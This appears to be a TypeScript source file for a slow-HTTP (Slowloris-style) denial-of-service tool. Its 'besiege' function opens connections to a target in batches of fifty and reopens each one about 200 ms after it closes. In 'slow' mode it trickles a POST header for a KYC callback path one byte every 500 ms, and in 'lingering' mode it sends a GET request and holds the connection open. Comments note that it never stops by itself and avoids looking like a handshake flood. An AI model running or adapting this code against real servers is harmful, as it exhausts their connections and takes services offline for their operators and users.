import type { Socket } from 'node:net';
import { openSocket } from './connection.js';
import type { Siege } from './orders.js';

const slowByteMs = 500;
const againMs = 200;
/** opened at a time, so that the siege itself is no flood of handshakes */
const atOnce = 50;

/** Holds connections open; resolves when as many as asked for were opened once, or refused. Never ends by itself. */
export async function besiege({ target, how, connections }: Siege): Promise<void> {
  for (let opened = 0; opened < connections; opened += atOnce) {
    const batch = Math.min(atOnce, connections - opened);
    await Promise.all(Array.from({ length: batch }, () => hold()));
  }

  function hold(): Promise<void> {
    return new Promise(resolve => {
      const socket = openSocket(target, () => {
        annoy(socket, how);
        resolve();
      });
      socket.on('data', () => {});
      socket.on('error', () => {});
      socket.on('close', () => {
        resolve();
        setTimeout(() => void hold(), againMs);
      });
    });
  }
}

function annoy(socket: Socket, how: Siege['how']): void {
  if (how === 'lingering') socket.write('GET /nothing HTTP/1.1\r\nhost: kyc.example.net\r\n\r\n');
  if (how !== 'slow') return;
  socket.write('POST /onfido/callback HTTP/1.1\r\nx: ');
  const timer = setInterval(() => socket.write('x'), slowByteMs);
  socket.on('close', () => clearInterval(timer));
}
